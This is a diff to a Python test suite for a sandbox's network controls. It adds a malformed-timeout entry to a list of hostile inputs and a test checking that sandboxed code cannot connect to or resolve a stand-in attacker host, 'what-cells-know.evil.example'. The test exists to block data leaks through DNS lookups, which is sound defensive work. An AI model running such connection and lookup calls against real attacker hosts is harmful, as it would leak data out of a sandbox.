@@ -331,6 +331,7 @@ HOSTILE = [
     ("open", {}),
     ("finish", {"connection": -1, "seconds": 1}),
     ("finish", {"connection": 1, "seconds": float("nan")}),
+    ("wait", {"connections": [[1, 1]], "seconds": 10**999}),
     ("receive", {"connection": 1 << 70, "size": 1, "seconds": 0}),
     ("receive", {"connection": 1, "size": -5, "seconds": 0}),
     ("receive", {"connection": 1, "size": 1, "seconds": "long"}),
@@ -377,3 +378,29 @@ except OSError: pass
 print(len(kept))
 """
     assert ok(sandbox, code) == ("5\n" if on else "20\n")
+
+
+def test_names_that_nobody_allowed_are_not_looked_up(sandbox_for: Grant) -> None:
+    """A look-up leaves the machine, with whatever the name says, and tells of names that only the inside knows."""
+    asked: list[str] = []
+    code = """
+import asyncio, http.client, socket, ssl, urllib.request
+name = "what-cells-know.evil.example"
+tries = (
+    lambda: socket.create_connection((name, 80), 5), lambda: urllib.request.urlopen(f"https://{name}/"),
+    lambda: http.client.HTTPConnection(name).connect(), lambda: ssl.get_server_certificate((name, 443)),
+    lambda: socket.socket().connect_ex((name, 443)),
+)
+for one in tries:
+    try: one()
+    except OSError as e: print("no permission" in str(e))
+print(socket.gethostbyname(name), socket.getaddrinfo(name, 80)[0][4], socket.gethostbyname_ex(name)[2], socket.getfqdn(name) == name)
+try: await asyncio.open_connection(name, 80)
+except OSError as e: print("no permission" in str(e))
+"""
+    with mock.patch.object(resolving, "look_up", lambda name, *args, **options: asked.append(name)):
+        said = ok(sandbox_for(["a.example"]), code).splitlines()
+        assert said.count("True") == 6 and len(said) == 7
+        assert asked == []
+        sandbox_for(["*.evil.example"]).execute(code)
+        assert asked
